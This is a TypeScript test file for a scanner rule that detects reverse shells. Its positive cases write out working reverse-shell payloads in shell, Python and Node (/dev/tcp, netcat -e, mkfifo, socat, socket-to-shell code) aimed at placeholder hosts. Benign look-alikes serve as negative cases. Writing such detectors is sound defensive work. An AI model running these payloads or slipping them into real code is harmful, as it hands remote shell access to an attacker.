import { testRule } from '../../../testing/rule-checks.ts';
import { reverseShell } from './reverse-shell.ts';

const script = (line: string) => ({ 'scripts/a.sh': `#!/bin/sh\n${line}\n` });

testRule(reverseShell, {
  caught: [
    { of: '/dev/tcp', files: script('exec 5<>/dev/tcp/relay.example/443'), severity: 'critical' },
    { of: 'netcat', files: script('nc relay.example 4444 -e /bin/sh'), severity: 'critical' },
    {
      of: 'a named pipe',
      files: script('mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc relay.example 4444 > /tmp/f'),
    },
    { of: 'socat', files: script('socat tcp:relay.example:4444 exec:/bin/sh') },
    {
      of: 'a command of the code',
      files: {
        'handlers/a.ts': "import { exec } from 'child_process';\nexec('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1');\n",
      },
      severity: 'critical',
    },
    {
      of: 'a socket that becomes the shell of a Python script',
      files: {
        'scripts/a.py':
          'import socket, os, subprocess as sp\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\nos.dup2(s.fileno(), 0)\nsp.call(["/bin/sh", "-i"])\n',
      },
      severity: 'critical',
    },
    {
      of: 'a socket handed to a process',
      files: {
        'scripts/a.py':
          'import socket\nfrom subprocess import Popen\ns = socket.create_connection(("h.example", 1))\nPopen(["sh"], stdin=s, stdout=s)\n',
      },
    },
    {
      of: 'a shell that a socket is piped into',
      files: {
        'a.js':
          "const net = require('net'), sh = require('child_process').spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
      },
      severity: 'critical',
    },
    { of: 'a document', files: { 'SKILL.md': '```\nbash -i >& /dev/tcp/relay.example/1 0>&1\n```\n' } },
  ],
  silent: [
    {
      of: 'a shell with a script beside a connection',
      files: {
        'a.js':
          "require('net').connect(5432, 'db.example');\nrequire('child_process').spawn('/bin/sh', ['build.sh']);\n",
      },
    },
    { of: 'a look whether a port is open', files: script('nc -z localhost 5432') },
    {
      of: 'a socket and a process that have nothing to do with each other',
      files: {
        'scripts/a.py':
          'import socket, subprocess\ns = socket.create_connection(("localhost", 80))\ns.close()\nsubprocess.run(["git", "status"], stdout=subprocess.PIPE)\n',
      },
    },
    { of: 'a null device', files: script('ls > /dev/null 2>&1') },
  ],
});
